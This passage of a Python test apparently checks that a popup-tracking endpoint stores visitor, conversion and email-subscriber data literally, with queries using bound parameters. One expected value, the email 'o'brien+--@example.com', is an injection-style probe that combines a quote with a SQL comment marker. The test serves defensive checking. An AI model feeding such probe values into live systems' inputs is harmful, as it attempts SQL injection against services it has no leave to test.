        answer = Client(track_conversion).post(json=event)
        assert answer.status_code == 201, answer.text
    of_popup = "WHERE popup_id = :id"
    (row,) = database(f"SELECT session_id, visitor_id, page_url, referrer FROM popup_views {of_popup}", id=own_popup)
    assert set(row.values()) == {text}
    rows = {row["type"]: row for row in database(f"SELECT * FROM popup_conversions {of_popup}", id=own_popup)}
    assert rows["email_capture"]["metadata"] == {text: [text]}
    assert (rows["purchase"]["order_id"], rows["discount_code_used"]["discount_code"]) == (text, text)
    (subscriber,) = database(f"SELECT email, name, consent_text FROM email_subscribers {of_popup}", id=own_popup)
    assert subscriber == {"email": "o'brien+--@example.com", "name": text, "consent_text": text}
